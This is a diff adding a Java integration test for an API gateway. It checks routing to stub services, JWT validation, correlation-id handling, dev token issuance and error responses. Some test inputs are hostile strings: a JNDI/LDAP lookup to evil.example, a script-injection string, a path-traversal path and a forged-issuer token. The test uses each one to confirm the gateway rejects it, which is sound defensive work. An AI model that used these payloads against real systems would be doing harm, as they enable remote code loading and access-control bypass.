@@ -1,0 +1,481 @@
+package io.shouwei.gateway;
+
+import static io.shouwei.gateway.support.Problems.assertProblem;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.springframework.cloud.gateway.support.RouteMetadataUtils.CONNECT_TIMEOUT_ATTR;
+import static org.springframework.cloud.gateway.support.RouteMetadataUtils.RESPONSE_TIMEOUT_ATTR;
+
+import com.nimbusds.jose.JOSEException;
+import com.nimbusds.jose.crypto.RSASSAVerifier;
+import com.nimbusds.jose.jwk.JWKSet;
+import com.nimbusds.jose.jwk.RSAKey;
+import com.nimbusds.jwt.JWTClaimsSet;
+import com.nimbusds.jwt.SignedJWT;
+import io.shouwei.embedded.DevTokens;
+import io.shouwei.gateway.support.StubService;
+import io.shouwei.gateway.support.TestTokens;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.text.ParseException;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.List;
+import java.util.Map;
+import java.util.UUID;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.boot.test.autoconfigure.actuate.observability.AutoConfigureObservability;
+import org.springframework.boot.test.context.SpringBootTest;
+import org.springframework.boot.test.context.TestConfiguration;
+import org.springframework.boot.test.system.CapturedOutput;
+import org.springframework.boot.test.system.OutputCaptureExtension;
+import org.springframework.cloud.gateway.route.Route;
+import org.springframework.cloud.gateway.route.RouteLocator;
+import org.springframework.cloud.gateway.route.builder.RouteLocatorBuilder;
+import org.springframework.context.annotation.Bean;
+import org.springframework.core.ParameterizedTypeReference;
+import org.springframework.http.CacheControl;
+import org.springframework.http.HttpHeaders;
+import org.springframework.http.MediaType;
+import org.springframework.test.context.ActiveProfiles;
+import org.springframework.test.context.DynamicPropertyRegistry;
+import org.springframework.test.context.DynamicPropertySource;
+import org.springframework.test.web.reactive.server.EntityExchangeResult;
+import org.springframework.test.web.reactive.server.WebTestClient;
+import org.springframework.util.FileSystemUtils;
+
+/**
+ * The gateway as it runs locally: dev tokens, every route to a real HTTP stub of its service,
+ * token checks, correlation ids and the gateway's own errors.
+ */
+@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
+@AutoConfigureObservability(tracing = false)
+@ActiveProfiles("local")
+@ExtendWith(OutputCaptureExtension.class)
+class GatewayLocalIT {
+
+  private static final Path DATA_DIR = tempDir();
+  private static final StubService HAZARD = StubService.start("hazard");
+  private static final StubService WORKFLOW = StubService.start("workflow");
+  private static final StubService REPORTING = StubService.start("reporting");
+  private static final StubService SLOW = StubService.startSlow("slow", Duration.ofSeconds(3));
+
+  private static final String CORRELATION = "X-Correlation-Id";
+  private static final String UUID_PATTERN = "[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}";
+
+  @DynamicPropertySource
+  static void properties(DynamicPropertyRegistry registry) {
+    registry.add("SHOUWEI_DATA_DIR", DATA_DIR::toString);
+    registry.add("SHOUWEI_HAZARD_URL", HAZARD::url);
+    registry.add("SHOUWEI_WORKFLOW_URL", WORKFLOW::url);
+    registry.add("SHOUWEI_REPORTING_URL", REPORTING::url);
+  }
+
+  /** A route that exists only here, to a service slower than the route's response timeout. */
+  @TestConfiguration(proxyBeanMethods = false)
+  static class SlowRoute {
+    @Bean
+    RouteLocator slowRoute(RouteLocatorBuilder routes) {
+      return routes.routes()
+          .route("test-slow", r -> r.path("/api/test-slow/**").metadata(RESPONSE_TIMEOUT_ATTR, 300).uri(SLOW.url()))
+          .build();
+    }
+  }
+
+  @Autowired WebTestClient http;
+  @Autowired RouteLocator routeLocator;
+
+  @AfterAll
+  static void stopStubs() throws IOException {
+    Stream.of(HAZARD, WORKFLOW, REPORTING, SLOW).forEach(StubService::close);
+    FileSystemUtils.deleteRecursively(DATA_DIR);
+  }
+
+  // --- routing -------------------------------------------------------------------------------
+
+  @ParameterizedTest(name = "{0} → {1}")
+  @CsvSource({
+    "/api/mines/m-1,                                 hazard",
+    "/api/hazards/h-1/sign-off,                      hazard",
+    "/api/orders/o-1,                                hazard",
+    "/api/campaigns/c-1/phases,                      hazard",
+    "/api/tips/T-7Q2X/triage,                        hazard",
+    "/api/tasks/t-1/complete,                        workflow",
+    "/api/processes/p-1,                             workflow",
+    "/api/notifications/n-1,                         workflow",
+    "/camunda/app/cockpit/default/,                  workflow",
+    "/api/reports/campaigns/c-1/work-report.xlsx,    reporting",
+    "/dashboard/index.html,                          reporting"
+  })
+  void everyRoute_reachesItsService_withPathAndQueryUnchanged(String path, String service) {
+    String pathAndQuery = path + "?probe=" + UUID.randomUUID();
+
+    http.get().uri(pathAndQuery).headers(h -> h.setBearerAuth(token("DISTRICT_AGENCY")))
+        .exchange()
+        .expectStatus().isOk()
+        .expectBody().jsonPath("$.service").isEqualTo(service);
+
+    assertThat(stub(service).requestTo(pathAndQuery)).as("received by " + service).isPresent();
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"hazard-api", "workflow-api", "camunda-webapp", "reporting-api", "dashboard"})
+  void everyRoute_hasItsOwnTimeouts(String routeId) {
+    Route route =
+        routeLocator.getRoutes().filter(r -> r.getId().equals(routeId)).blockFirst(Duration.ofSeconds(5));
+
+    assertThat(route).as(routeId).isNotNull();
+    assertThat(Long.parseLong(route.getMetadata().get(RESPONSE_TIMEOUT_ATTR).toString())).isPositive();
+    assertThat(Long.parseLong(route.getMetadata().get(CONNECT_TIMEOUT_ATTR).toString())).isPositive();
+  }
+
+  @Test
+  void devToken_isForwardedUnchanged_withTheCorrelationIdTheCallerGetsBack() {
+    String token = token("DISTRICT_AGENCY");
+    String path = "/api/hazards/" + UUID.randomUUID();
+
+    EntityExchangeResult<byte[]> result =
+        http.get().uri(path).headers(h -> h.setBearerAuth(token))
+            .exchange()
+            .expectStatus().isOk()
+            .expectBody().jsonPath("$.service").isEqualTo("hazard")
+            .returnResult();
+
+    StubService.Received received = HAZARD.requestTo(path).orElseThrow();
+    String correlationId = received.headers().getFirst(CORRELATION);
+    assertThat(received.headers().getFirst(HttpHeaders.AUTHORIZATION)).isEqualTo("Bearer " + token);
+    assertThat(correlationId).matches(UUID_PATTERN);
+    // the stub echoes the id: the caller must still see it once, not twice
+    assertThat(result.getResponseHeaders().get(CORRELATION)).containsExactly(correlationId);
+  }
+
+  @Test
+  void wellFormedCorrelationId_isKept() {
+    String supplied = "web-console:req_42.7-" + UUID.randomUUID().toString().substring(0, 8);
+    String path = "/api/orders/" + UUID.randomUUID();
+
+    http.get().uri(path).headers(h -> h.setBearerAuth(token("TOWN_AGENCY"))).header(CORRELATION, supplied)
+        .exchange()
+        .expectStatus().isOk()
+        .expectHeader().valueEquals(CORRELATION, supplied);
+
+    assertThat(HAZARD.requestTo(path).orElseThrow().headers().get(CORRELATION)).containsExactly(supplied);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "${jndi:ldap://evil.example/a}",
+    "id with spaces",
+    "<script>alert(1)</script>",
+    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+    ""
+  })
+  void malformedCorrelationId_isReplacedByAUuid(String supplied) {
+    String path = "/api/mines/" + UUID.randomUUID();
+
+    EntityExchangeResult<byte[]> result =
+        http.get().uri(path).headers(h -> h.setBearerAuth(token("AUDITOR"))).header(CORRELATION, supplied)
+            .exchange()
+            .expectStatus().isOk()
+            .expectBody().returnResult();
+
+    String answered = result.getResponseHeaders().getFirst(CORRELATION);
+    assertThat(answered).matches(UUID_PATTERN);
+    assertThat(HAZARD.requestTo(path).orElseThrow().headers().get(CORRELATION)).containsExactly(answered);
+  }
+
+  @Test
+  void accessLog_namesTheCorrelationId_neverTheToken(CapturedOutput output) {
+    String token = token("ADMIN");
+    String correlationId = "log-check-" + UUID.randomUUID().toString().substring(0, 8);
+    String path = "/api/campaigns/" + UUID.randomUUID();
+
+    http.get().uri(path + "?secret=query-value").headers(h -> h.setBearerAuth(token))
+        .header(CORRELATION, correlationId)
+        .exchange()
+        .expectStatus().isOk();
+
+    assertThat(output.getOut().lines().filter(line -> line.contains("GET " + path + " 200")))
+        .singleElement().asString().contains(correlationId).contains("hazard-api");
+    assertThat(output.getAll()).doesNotContain(token).doesNotContain(token.substring(token.lastIndexOf('.') + 1))
+        .doesNotContain("query-value");
+  }
+
+  @Test
+  void gatewayErrors_carryACorrelationIdToo() {
+    http.get().uri("/api/hazards/h-1")
+        .header(CORRELATION, "trace-401")
+        .exchange()
+        .expectStatus().isUnauthorized()
+        .expectHeader().valueEquals(CORRELATION, "trace-401");
+  }
+
+  // --- authentication ------------------------------------------------------------------------
+
+  @Test
+  void noToken_is401Problem_andNeverReachesTheService() {
+    String path = "/api/hazards/" + UUID.randomUUID();
+
+    assertProblem(http.get().uri(path).exchange(), 401, "unauthenticated", path);
+    http.get().uri(path).exchange().expectHeader().valueEquals(HttpHeaders.WWW_AUTHENTICATE, "Bearer");
+
+    assertThat(HAZARD.requestTo(path)).isEmpty();
+  }
+
+  static Stream<Arguments> rejectedTokens() {
+    Instant now = Instant.now();
+    return Stream.of(
+        Arguments.of("garbage", (TokenFactory) key -> "not-a-jwt"),
+        Arguments.of("expired", (TokenFactory) key -> TestTokens.sign(key,
+            claims(now.minus(Duration.ofHours(2)), Duration.ofHours(1)).build())),
+        Arguments.of("wrong audience", (TokenFactory) key -> TestTokens.sign(key,
+            claims(now, Duration.ofHours(1)).audience("someone-else").build())),
+        Arguments.of("wrong issuer", (TokenFactory) key -> TestTokens.sign(key,
+            claims(now, Duration.ofHours(1)).issuer("https://evil.example").build())),
+        Arguments.of("foreign key", (TokenFactory) key ->
+            DevTokens.generate().token("u-1", List.of("ADMIN"), "district", List.of(), null)));
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @MethodSource("rejectedTokens")
+  void rejectedToken_is401Problem(String why, TokenFactory tokens) {
+    String path = "/api/hazards/" + UUID.randomUUID();
+    String token = tokens.create(signingKey());
+
+    assertProblem(http.get().uri(path).headers(h -> h.setBearerAuth(token)).exchange(), 401, "unauthenticated", path);
+    http.get().uri(path).headers(h -> h.setBearerAuth(token)).exchange()
+        .expectHeader().valueEquals(HttpHeaders.WWW_AUTHENTICATE, "Bearer error=\"invalid_token\"");
+
+    assertThat(HAZARD.requestTo(path)).isEmpty();
+  }
+
+  @Test
+  void aCorrectlySignedTokenWithTheSameClaims_isAccepted() {
+    // the counterpart of the rejected cases above: only the one broken claim made them fail
+    String path = "/api/hazards/" + UUID.randomUUID();
+    String token = TestTokens.sign(signingKey(), claims(Instant.now(), Duration.ofHours(1)).build());
+
+    http.get().uri(path).headers(h -> h.setBearerAuth(token)).exchange().expectStatus().isOk();
+  }
+
+  @Test
+  void filingATip_needsNoToken_andReachesTheHazardService() {
+    String tip = "{\"category\":\"ILLEGAL_MINING\",\"description\":\"night blasting at " + UUID.randomUUID() + "\"}";
+
+    http.post().uri("/api/tips").contentType(MediaType.APPLICATION_JSON).bodyValue(tip)
+        .exchange()
+        .expectStatus().isOk()
+        .expectBody().jsonPath("$.service").isEqualTo("hazard");
+
+    StubService.Received received = HAZARD.requestTo("/api/tips").orElseThrow();
+    assertThat(received.method()).isEqualTo("POST");
+    assertThat(received.body()).isEqualTo(tip);
+    assertThat(received.headers().containsKey(HttpHeaders.AUTHORIZATION)).isFalse();
+  }
+
+  @Test
+  void followingATipByItsCode_needsNoToken_butListingTipsDoes() {
+    String code = "T-" + UUID.randomUUID().toString().substring(0, 6);
+
+    http.get().uri("/api/tips/" + code).exchange().expectStatus().isOk();
+    assertThat(HAZARD.requestTo("/api/tips/" + code)).isPresent();
+
+    assertProblem(http.get().uri("/api/tips").exchange(), 401, "unauthenticated", "/api/tips");
+    assertProblem(http.get().uri("/api/tips/" + code + "/triage").exchange(), 401, "unauthenticated",
+        "/api/tips/" + code + "/triage");
+  }
+
+  @Test
+  void dashboardAndCamunda_needNoToken() {
+    http.get().uri("/dashboard").exchange().expectStatus().isOk();
+    http.get().uri("/camunda/app/welcome/default/").exchange().expectStatus().isOk();
+  }
+
+  // --- the gateway's own errors --------------------------------------------------------------
+
+  @ParameterizedTest
+  @ValueSource(strings = {"/api/no-such-thing/1", "/nowhere", "/auth/unknown"})
+  void pathWithoutRoute_is404Problem(String path) {
+    assertProblem(http.get().uri(path).headers(h -> h.setBearerAuth(token("ADMIN"))).exchange(), 404, "not-found", path);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"/camunda/../api/hazards/h-1", "/api/tips/x;jsessionid=1"})
+  void pathThatCouldSlipPastTheRules_is400Problem(String path) {
+    assertProblem(http.get().uri(path).exchange(), 400, "invalid-request", path);
+
+    assertThat(WORKFLOW.requestTo(path)).isEmpty();
+    assertThat(HAZARD.requestTo(path)).isEmpty();
+  }
+
+  @Test
+  void pathWithoutRoute_withoutToken_is401() {
+    assertProblem(http.get().uri("/nowhere").exchange(), 401, "unauthenticated", "/nowhere");
+  }
+
+  @Test
+  void slowService_is504Problem() {
+    String path = "/api/test-slow/" + UUID.randomUUID();
+
+    assertProblem(http.get().uri(path).headers(h -> h.setBearerAuth(token("ADMIN"))).exchange(),
+        504, "gateway-timeout", path);
+  }
+
+  @Test
+  void actuator_probesAndMetricsAreOpen_theRestIsClosed() {
+    http.get().uri("/actuator/health/liveness").exchange()
+        .expectStatus().isOk().expectBody().jsonPath("$.status").isEqualTo("UP");
+    http.get().uri("/actuator/health/readiness").exchange()
+        .expectStatus().isOk().expectBody().jsonPath("$.status").isEqualTo("UP");
+    http.get().uri("/actuator/info").exchange().expectStatus().isOk();
+    http.get().uri("/actuator/prometheus").exchange()
+        .expectStatus().isOk()
+        .expectBody(String.class).value(body -> assertThat(body).contains("jvm_memory_used_bytes"));
+
+    assertProblem(http.get().uri("/actuator/env").headers(h -> h.setBearerAuth(token("ADMIN"))).exchange(),
+        403, "forbidden", "/actuator/env");
+    assertProblem(http.get().uri("/actuator/env").exchange(), 401, "unauthenticated", "/actuator/env");
+  }
+
+  // --- the dev token issuer ------------------------------------------------------------------
+
+  @Test
+  void devToken_carriesTheClaimsEveryServiceReads() throws ParseException, JOSEException {
+    Map<String, Object> response =
+        http.post().uri("/auth/dev-token").contentType(MediaType.APPLICATION_JSON)
+            .bodyValue(Map.of(
+                "sub", "ent-user-1", "name", "Li Wei", "roles", List.of("ENTERPRISE"),
+                "org", "ent-7", "towns", List.of("town-3"), "enterprise", "ent-7"))
+            .exchange()
+            .expectStatus().isOk()
+            .expectHeader().cacheControl(CacheControl.noStore())
+            .expectBody(new ParameterizedTypeReference<Map<String, Object>>() {})
+            .returnResult().getResponseBody();
+
+    assertThat(response).containsEntry("token_type", "Bearer").containsEntry("expires_in", 3600);
+    SignedJWT jwt = SignedJWT.parse((String) response.get("access_token"));
+    JWTClaimsSet claims = jwt.getJWTClaimsSet();
+    assertThat(jwt.getHeader().getKeyID()).isEqualTo(signingKey().getKeyID());
+    assertThat(jwt.verify(new RSASSAVerifier(publishedKey()))).isTrue();
+    assertThat(claims.getIssuer()).isEqualTo("urn:shouwei:local");
+    assertThat(claims.getAudience()).containsExactly("shouwei");
+    assertThat(claims.getSubject()).isEqualTo("ent-user-1");
+    assertThat(claims.getStringClaim("name")).isEqualTo("Li Wei");
+    assertThat(claims.getStringListClaim("roles")).containsExactly("ENTERPRISE");
+    assertThat(claims.getStringClaim("org")).isEqualTo("ent-7");
+    assertThat(claims.getStringListClaim("towns")).containsExactly("town-3");
+    assertThat(claims.getStringClaim("enterprise")).isEqualTo("ent-7");
+    assertThat(claims.getJWTID()).isNotBlank();
+    assertThat(Duration.between(claims.getIssueTime().toInstant(), claims.getExpirationTime().toInstant()))
+        .isEqualTo(Duration.ofHours(1));
+    assertThat(claims.getIssueTime().toInstant()).isBetween(Instant.now().minusSeconds(60), Instant.now().plusSeconds(1));
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(delimiter = '|', value = {
+    "{}                                                        | sub,roles",
+    "{\"sub\":\"u\",\"roles\":[]}                              | roles",
+    "{\"sub\":\" \",\"roles\":[\"ADMIN\"]}                     | sub",
+    "{\"sub\":\"u\",\"roles\":[\"ADMIN\",\"KING\"]}            | roles[1]",
+    "{\"sub\":\"u\",\"roles\":[\"ENTERPRISE\"]}                | enterprise",
+    "{\"sub\":\"u\",\"roles\":[\"TOWN_AGENCY\"],\"towns\":[]}  | towns",
+    "{\"roles\":[\"TOWN_AGENCY\",\"ENTERPRISE\"]}              | sub,enterprise,towns"
+  })
+  void badDevTokenRequest_is400Problem_namingEachBadField(String body, String fields) {
+    assertProblem(
+            http.post().uri("/auth/dev-token").contentType(MediaType.APPLICATION_JSON).bodyValue(body).exchange(),
+            400, "invalid-request", "/auth/dev-token")
+        .jsonPath("$.errors[*].field").value(f -> assertThat(f).isEqualTo(List.of(fields.split(","))))
+        .jsonPath("$.errors[*].message").value(m -> assertThat((List<?>) m).allSatisfy(s -> assertThat(s).asString().isNotBlank()));
+  }
+
+  @Test
+  void devTokenRequestThatIsNotJson_is400Problem() {
+    assertProblem(
+        http.post().uri("/auth/dev-token").contentType(MediaType.APPLICATION_JSON).bodyValue("{\"sub\": ").exchange(),
+        400, "invalid-request", "/auth/dev-token");
+  }
+
+  @Test
+  void jwks_publishesThePublicSigningKeyOnly() throws ParseException {
+    String body = http.get().uri("/auth/jwks.json").exchange()
+        .expectStatus().isOk()
+        .expectHeader().contentTypeCompatibleWith(MediaType.APPLICATION_JSON)
+        .expectBody(String.class).returnResult().getResponseBody();
+
+    JWKSet set = JWKSet.parse(body);
+    assertThat(set.getKeys()).hasSize(1);
+    RSAKey published = set.getKeys().get(0).toRSAKey();
+    assertThat(published.isPrivate()).isFalse();
+    assertThat(body).doesNotContain("\"d\"", "\"p\"", "\"q\"");
+    assertThat(published.getKeyID()).isEqualTo(signingKey().getKeyID());
+    assertThat(published.getModulus()).isEqualTo(signingKey().getModulus());
+    assertThat(published.size()).isEqualTo(2048);
+  }
+
+  @Test
+  void signingKeyFile_isReadableByItsOwnerOnly() throws IOException {
+    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(keyFile()))).isEqualTo("rw-------");
+  }
+
+  // --- helpers -------------------------------------------------------------------------------
+
+  interface TokenFactory {
+    String create(RSAKey gatewayKey);
+  }
+
+  private String token(String role) {
+    Map<String, Object> request = Map.of(
+        "sub", "user-" + role.toLowerCase(), "roles", List.of(role), "org", "org-1",
+        "towns", List.of("town-1"), "enterprise", "ent-1");
+    Map<?, ?> response = http.post().uri("/auth/dev-token").contentType(MediaType.APPLICATION_JSON)
+        .bodyValue(request).exchange()
+        .expectStatus().isOk()
+        .expectBody(Map.class).returnResult().getResponseBody();
+    return (String) response.get("access_token");
+  }
+
+  private static JWTClaimsSet.Builder claims(Instant issuedAt, Duration ttl) {
+    return DevTokens.claims("u-1", List.of("ADMIN"), "district", List.of(), null, issuedAt, ttl);
+  }
+
+  private static StubService stub(String service) {
+    return switch (service) {
+      case "hazard" -> HAZARD;
+      case "workflow" -> WORKFLOW;
+      case "reporting" -> REPORTING;
+      default -> throw new IllegalArgumentException(service);
+    };
+  }
+
+  private static Path keyFile() {
+    return DATA_DIR.resolve("gateway/dev-signing-key.jwk");
+  }
+
+  private static RSAKey signingKey() {
+    return TestTokens.readKey(keyFile());
+  }
+
+  private RSAKey publishedKey() throws ParseException {
+    String body = http.get().uri("/auth/jwks.json").exchange().expectBody(String.class).returnResult().getResponseBody();
+    return JWKSet.parse(body).getKeys().get(0).toRSAKey();
+  }
+
+  private static Path tempDir() {
+    try {
+      return Files.createTempDirectory("shouwei-gateway-it");
+    } catch (IOException e) {
+      throw new IllegalStateException(e);
+    }
+  }
+}
